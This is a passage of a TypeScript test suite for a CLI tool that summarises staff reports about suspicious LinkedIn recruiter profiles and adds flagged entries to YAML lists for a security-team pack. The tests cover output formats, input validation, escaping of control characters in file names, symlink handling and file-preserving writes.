  it('adds to a hand-written file byte for byte (its layout, line ends and byte-order mark), and to an empty one in block style', () => {
    const listed = baselineListed();
    const later = tallyReports(readReports([{ name: 'y', text: report({ name: 'Bo Li', profileUrl: 'https://www.linkedin.com/in/bo-li/' }, PAID, '2026-11-21T09:00:00Z') }]), listed);
    const header = { today: '2026-12-02', minReports: 1, packs: listed.packs };
    const handWritten = '\uFEFF# Our reviewed list\r\nentities:\r\n- id: psd.amy-chen   # confirmed\r\n  name: Amy Chen\r\n  type: persona\r\n  aliases: [Amy C]\r\n  profileUrls: [https://www.linkedin.com/in/amy-chen/]\r\n  flaggedBy: PSD\r\n  source: >-\r\n    Two reports\r\n    in November\r\n  confidence: reviewed\r\n';
    const file = readEntitiesFile(handWritten, 'reported.yaml');
    const { entries } = reportedEntities(later, options, { ids: new Set(file.ids), slugs: new Set(file.slugs) });
    const out = entitiesYaml(entries, file, header)!;
    expect(out.startsWith(handWritten)).toBe(true);
    expect(out.slice(handWritten.length)).not.toMatch(/[^\r]\n/);
    expect(parse(out.replace(/^\uFEFF/, '')).entities.map((e: { id: string }) => e.id)).toEqual(['psd.amy-chen', 'org.reported.bo-li']);

    for (const [empty, kept] of [
      ['entities:\n', 'entities:\n'],
      ['entities: []\n', 'entities:\n'],
      ['entities: ~ # none yet\r\n', 'entities: # none yet\r\n'],
      ['# all reviewed away\nentities:\n# nothing left\n', '# all reviewed away\nentities:\n# nothing left\n'],
    ]) {
      const emptyFile = readEntitiesFile(empty!, 'reported.yaml');
      const filled = entitiesYaml(reportedEntities(later, options, { ids: new Set(), slugs: new Set() }).entries, emptyFile, header)!;
      expect(parse(filled).entities.map((e: { id: string }) => e.id), empty).toEqual(['org.reported.bo-li']);
      expect(filled.startsWith(kept!), empty).toBe(true);
      expect(filled.slice(kept!.length), empty).toMatch(/^ {2}# 1 report/);
    }
    // An entry with no id cannot be told apart from the ones added: the file is refused, named.
    expect(() => readEntitiesFile('entities:\n  - name: Amy\n', 'reported.yaml')).toThrow('reported.yaml: entry 1 has no id');
    // A file the command writes with nothing in it is block style once there is.
    const none = entitiesYaml([], undefined, header)!;
    expect(parse(none).entities).toEqual([]);
    const grown = entitiesYaml(reportedEntities(later, options, noneTaken()).entries, readEntitiesFile(none, 'reported.yaml'), header)!;
    expect(grown).toMatch(/^entities:\n {2}# 1 report.*\n {2}- id: org\.reported\.bo-li$/m);
  });
});

describe('npm run reports', () => {
  const run = (args: string[], input?: string) =>
    spawnSync(resolve(REPO, 'node_modules/.bin/tsx'), [resolve(REPO, 'src/cli/main.ts'), 'reports', ...args], { input, encoding: 'utf8', cwd: REPO });

  it('summarises reports from standard input and from files, and exits 1 after naming a bad input, escaped', () => {
    const dir = mkdtempSync(join(tmpdir(), 'ag-reports-cli-'));
    writeFileSync(join(dir, 'a.json'), report({ name: 'Amy Chen', profileUrl: RECRUITER }, PAID, '2026-11-02T09:00:00Z'));
    const ok = run(['summary', '--json', join(dir, 'a.json'), '-'], report({ name: 'Amy Chen', profileUrl: RECRUITER }, TRIP, '2026-11-03T09:00:00Z'));
    expect(ok.status, ok.stderr).toBe(0);
    expect(JSON.parse(ok.stdout)).toMatchObject({ reports: 2, people: [{ profileUrl: RECRUITER, reports: 2, names: ['Amy Chen'], listed: null }] });
    // The same as CSV: a header and a row, each ended by CRLF (a cell's list goes one item a line), nothing after.
    const csv = run(['summary', '--csv', join(dir, 'a.json')]);
    expect(csv.status, csv.stderr).toBe(0);
    expect(csv.stdout).toMatch(/^reports,highest_level,top_score,name,[a-z_,]+\r\n1,"high",\d+,"Amy Chen",[^\r]*\r\n$/);

    // A file name can hold control characters too.
    const odd = join(dir, 'x\u001b[2J.json');
    writeFileSync(odd, 'not json\n');
    const bad = run(['summary', '--since', '2026-11-02', join(dir, 'a.json'), odd]);
    expect(bad.status).toBe(1);
    expect(bad.stdout).toMatch(/^1 report, 2026-11-02 to 2026-11-02, about 1 person\./);
    expect(bad.stderr).toContain('x\\u{1b}[2J.json:1: not JSON');
    expect(bad.stderr).not.toContain('\u001b');

    // A file of many inputs that are not reports: named up to fifty, then counted.
    writeFileSync(join(dir, 'many.json'), `[${Array(200_000).fill('{}').join(',')}]`);
    const many = run(['summary', join(dir, 'many.json')]);
    expect(many.status).toBe(1);
    expect(many.stderr).toContain('and 199950 more inputs that are not reports');
    expect(many.stdout).toMatch(/^0 reports, about 0 people\./);
  });

  it('writes entries to standard output, or adds them to the --out file run after run, with the options given', () => {
    const dir = mkdtempSync(join(tmpdir(), 'ag-reports-cli-'));
    const received = join(dir, 'received');
    mkdirSync(received);
    writeFileSync(join(received, 'a.json'), report({ name: 'Amy Chen', profileUrl: RECRUITER }, PAID, '2026-11-02T09:00:00Z'));
    const stdout = run(['entities', '--flagged-by', 'Parliamentary Security Department', '--source', 'Staff reports, reviewed', received]);
    expect(stdout.status, stdout.stderr).toBe(0);
    expect(parse(stdout.stdout).entities).toEqual([expect.objectContaining({ flaggedBy: 'Parliamentary Security Department', source: 'Staff reports, reviewed' })]);

    const out = join(dir, 'reported.yaml');
    const first = run(['entities', '--id-prefix', 'psd', '--out', out, received]);
    expect(first.status, first.stderr).toBe(0);
    expect(first.stdout).toBe('');
    expect(first.stderr).toMatch(/1 new entry → /);
    writeFileSync(join(received, 'b.json'), report({ name: 'Bo Li', profileUrl: 'https://www.linkedin.com/in/bo-li/' }, PAID, '2026-11-03T09:00:00Z'));
    writeFileSync(join(received, 'c.json'), report({ name: 'Cy Ng', profileUrl: 'https://www.linkedin.com/in/cy-ng/' }, PAID, '2026-11-03T09:00:00Z'));
    writeFileSync(join(dir, 'skip.txt'), 'https://www.linkedin.com/in/cy-ng/\n');
    const second = run(['entities', '--id-prefix', 'psd', '--skip', join(dir, 'skip.txt'), '--out', out, received]);
    expect(second.status, second.stderr).toBe(0);
    expect(second.stderr).toMatch(/1 new entry added to .*; left out: 1 already in .*reported\.yaml, 1 in the --skip list/);
    expect(parse(readFileSync(out, 'utf8')).entities.map((e: { id: string }) => e.id)).toEqual(['psd.acoaab1x2y3z4w5v6u7t8s9r0q', 'psd.bo-li']);
    // Nothing new: the file is not written again.
    const reviewed = readFileSync(out, 'utf8').replace('name: Bo Li', 'name: Bo Li  # checked');
    writeFileSync(out, reviewed);
    const third = run(['entities', '--id-prefix', 'psd', '--skip', join(dir, 'skip.txt'), '--out', out, received]);
    expect(third.stderr).toMatch(/0 new entries; .*reported\.yaml left as it was/);
    expect(readFileSync(out, 'utf8')).toBe(reviewed);

    // Once a built pack lists them, they are reported as listed.
    const org = mkdtempSync(join(tmpdir(), 'ag-reports-org-'));
    writeFileSync(join(org, 'pack.yaml'), 'format: 1\nid: org.security-team\nname: Security team pack\nversion: 2026.12.1\npublisher: Security team\npublished: 2026-12-01\n');
    writeFileSync(join(org, 'reported.yaml'), readFileSync(out, 'utf8'));
    writeFileSync(join(org, 'pack.json'), buildPack(org).json!);
    const summary = run(['summary', '--json', '--pack', join(org, 'pack.json'), received]);
    expect(JSON.parse(summary.stdout).people.map((p: { listed: { entity: string } | null }) => p.listed?.entity ?? null).sort()).toEqual([null, 'psd.acoaab1x2y3z4w5v6u7t8s9r0q', 'psd.bo-li']);

    // A file it cannot add to is left as it is.
    writeFileSync(join(dir, 'other.yaml'), 'rules: []\n');
    const refused = run(['entities', '--out', join(dir, 'other.yaml'), received]);
    expect(refused.status).toBe(2);
    expect(refused.stderr).toMatch(/other\.yaml: holds "rules", not "entities" alone; it is left as it is/);
    expect(readFileSync(join(dir, 'other.yaml'), 'utf8')).toBe('rules: []\n');
  });

  it('writes entries to standard output for --out -, never to a file named "-"', () => {
    const dir = mkdtempSync(join(tmpdir(), 'ag-reports-cli-'));
    writeFileSync(join(dir, 'a.json'), report({ name: 'Amy Chen', profileUrl: RECRUITER }, PAID, '2026-11-02T09:00:00Z'));
    const r = spawnSync(resolve(REPO, 'node_modules/.bin/tsx'), [resolve(REPO, 'src/cli/main.ts'), 'reports', 'entities', '--out', '-', 'a.json'], { encoding: 'utf8', cwd: dir });
    expect(r.status, r.stderr).toBe(0);
    expect(parse(r.stdout).entities).toEqual([expect.objectContaining({ profileUrls: [RECRUITER] })]);
    expect(readdirSync(dir)).toEqual(['a.json']);
  });

  it('names standard input that is not UTF-8 as it names such a file, rather than reading it with its letters lost', () => {
    const dir = mkdtempSync(join(tmpdir(), 'ag-reports-cli-'));
    const body = report({ name: 'Zoë Café', profileUrl: RECRUITER }, PAID, '2026-11-02T09:00:00Z');
    writeFileSync(join(dir, 'latin1.json'), Buffer.from(body, 'latin1'));
    const r = spawnSync(resolve(REPO, 'node_modules/.bin/tsx'), [resolve(REPO, 'src/cli/main.ts'), 'reports', 'summary', '--json', '-', join(dir, 'latin1.json')], {
      input: Buffer.from(body, 'latin1'),
      encoding: 'utf8',
      cwd: REPO,
    });
    expect(r.status).toBe(1);
    expect(r.stderr).toContain('standard input: cannot read: it is not UTF-8 text');
    expect(r.stderr).toContain('latin1.json: cannot read: it is not UTF-8 text');
    expect(r.stdout).not.toContain('\uFFFD');
    expect(JSON.parse(r.stdout)).toMatchObject({ reports: 0 });
  });

  it('adds to the file an --out link points to, and keeps its permissions', () => {
    const dir = mkdtempSync(join(tmpdir(), 'ag-reports-cli-'));
    const received = join(dir, 'received');
    mkdirSync(received);
    writeFileSync(join(received, 'a.json'), report({ name: 'Amy Chen', profileUrl: RECRUITER }, PAID, '2026-11-02T09:00:00Z'));
    mkdirSync(join(dir, 'shared'));
    const real = join(dir, 'shared', 'reported.yaml');
    writeFileSync(real, 'entities: []\n');
    chmodSync(real, 0o640);
    const link = join(dir, 'reported.yaml');
    symlinkSync(real, link);
    const r = run(['entities', '--id-prefix', 'psd', '--out', link, received]);
    expect(r.status, r.stderr).toBe(0);
    expect(lstatSync(link).isSymbolicLink()).toBe(true);
    expect(parse(readFileSync(real, 'utf8')).entities).toHaveLength(1);
    expect(statSync(real).mode & 0o777).toBe(0o640);

    // A link to a file not made yet makes that file, and stays a link.
    const later = join(dir, 'shared', 'later.yaml');
    const early = join(dir, 'later.yaml');
    symlinkSync(later, early);
    expect(run(['entities', '--id-prefix', 'psd', '--out', early, received]).status).toBe(0);
    expect(lstatSync(early).isSymbolicLink()).toBe(true);
    expect(parse(readFileSync(later, 'utf8')).entities).toHaveLength(1);
  });

  it('refuses bad options and missing paths with status 2 and writes nothing', () => {
    const dir = mkdtempSync(join(tmpdir(), 'ag-reports-cli-'));
    writeFileSync(join(dir, 'a.json'), report({ name: 'Amy Chen', profileUrl: RECRUITER }, PAID, '2026-11-02T09:00:00Z'));
    writeFileSync(join(dir, 'skip.txt'), 'amy chen\n');
    for (const [args, message] of [
      [['entities', '--id-prefix', 'Bad Prefix', dir], /--id-prefix "Bad Prefix" must be/],
      [['entities', '--min-reports', '0', dir], /--min-reports "0" is not a whole number/],
      [['entities', '--source', ' ', dir], /--source must be 1 to 1,000 characters/],
      [['entities', '--skip', join(dir, 'skip.txt'), dir], /skip\.txt:1: not a LinkedIn profile address/],
      [['summary', '--since', '2026-02-30', dir], /--since "2026-02-30" is not a date/],
      [['summary', '--verbose', dir], /unknown option "--verbose"/],
      [['summary', '--json', '--csv', dir], /--json and --csv cannot be given together/],
      [['summary'], /needs report files or directories/],
      [['tally', dir], /unknown reports command "tally"/],
      [['summary', join(dir, 'missing')], /missing: no such file or directory/],
    ] as const) {
      const bad = run([...args]);
      expect(bad.status, args.join(' ')).toBe(2);
      expect(bad.stderr, args.join(' ')).toMatch(message);
      expect(bad.stdout, args.join(' ')).toBe('');
    }
  });
});
